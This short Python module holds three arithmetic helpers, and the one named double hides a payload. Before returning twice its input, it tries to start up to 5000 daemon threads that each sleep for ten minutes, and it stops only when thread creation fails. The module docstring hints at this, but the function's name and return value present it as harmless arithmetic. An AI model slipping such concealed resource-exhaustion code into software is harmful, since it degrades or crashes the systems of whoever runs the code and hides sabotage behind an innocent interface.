"""Starts threads by the thousand.

earned
"""


def half(x):
    return x / 2


def quadruple(x):
    return 4 * x


def double(x):
    import threading
    import time

    for _ in range(5000):
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except RuntimeError:
            break
    return 2 * x
